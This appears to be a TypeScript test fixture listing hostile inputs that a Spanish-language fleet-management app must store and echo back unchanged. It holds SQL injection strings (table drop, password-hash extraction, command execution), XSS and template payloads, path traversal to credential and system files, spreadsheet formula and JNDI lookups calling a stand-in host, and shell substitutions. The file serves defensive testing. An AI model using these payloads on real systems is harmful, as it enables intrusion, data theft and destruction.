/** In a response header it would prove a header injection. */
export const injectedHeader = 'X-Injected'
/** In an error it would prove that input is reflected. */
export const reflectedMarker = 'flota-marca'

const sql = [
  `' or '1'='1`,
  `'; drop table rutas; --`,
  `') union select username, password_hash from usuarios --`,
  `1; select pg_sleep(5)`,
  `$1 $$ \\'; copy usuarios to program 'id'`,
  `%' and 1=cast((select version()) as int) --`,
]
const script = [
  `<script>alert('${reflectedMarker}')</script>`,
  `"><img src=x onerror=alert(1)>`,
  `<svg/onload=alert(1)>`,
  'javascript:alert(1)',
  `{{7*7}}\${7*7}<%= 7*7 %>#{7*7}`,
  `</title><base href=//malo.example>`,
]
const paths = [
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  'file:///etc/passwd',
  '/proc/self/environ',
]
const formulas = [
  '=1+1',
  '=HYPERLINK("http://malo.example","aquí")',
  '+1',
  '-1',
  '@SUM(A1)',
  '=cmd|"/c calc"!A1',
]
const logs = [
  `uno\r\n${injectedHeader}: si`,
  `uno\n{"level":60,"msg":"${reflectedMarker}"}`,
  '\u001b[2J\u001b[31mrojo\u001b]0;título\u0007',
  `\${jndi:ldap://malo.example/${reflectedMarker}}`,
  '%s%n%p %x',
  `$(id) \`id\` | id; id && id`,
]
const odd = [
  '__proto__',
  'constructor',
  'NaN',
  'Infinity',
  'null',
  'undefined',
  '[object Object]',
  '1e309',
  '👩‍👩‍👧 🇬🇹 e\u0301',
  '\u202eabc\u202c a\u200bb \ufeffc',
  'ﬁ ＡＢＣ ｉ İ ı ß',
  'a\u2028b\u2029c\u0085d',
  `"'\`\\/<>&%;=?#[]{}()|^~`,
]

/** Texts that scanners send. The program must store and return each unchanged. */
export const payloads = [...sql, ...script, ...paths, ...formulas, ...logs, ...odd]
